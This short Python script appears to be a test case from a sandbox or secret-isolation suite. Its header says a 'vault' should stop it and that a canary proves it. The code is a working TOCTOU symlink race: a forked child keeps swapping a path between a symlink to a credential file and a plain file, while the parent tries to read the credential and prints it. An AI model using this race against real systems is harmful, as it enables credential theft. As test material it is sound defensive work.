# says: Exchanges a file and a symlink to the credential while another process opens it.
# stopped by: vault
# proof: canary
# source: TOCTOU
import contextlib
import os
import time

secret, end = os.environ["SECRET"], time.monotonic() + 1.5
open("plain", "w").close()
child = os.fork()
while child == 0:
    for make in (lambda: os.symlink(secret, "new"), lambda: os.link("plain", "new")):
        make()
        os.replace("new", "target")
found = ""
while not found and time.monotonic() < end:
    with contextlib.suppress(OSError), open("target") as file:
        found = file.read()
os.kill(child, 9)
print(found)
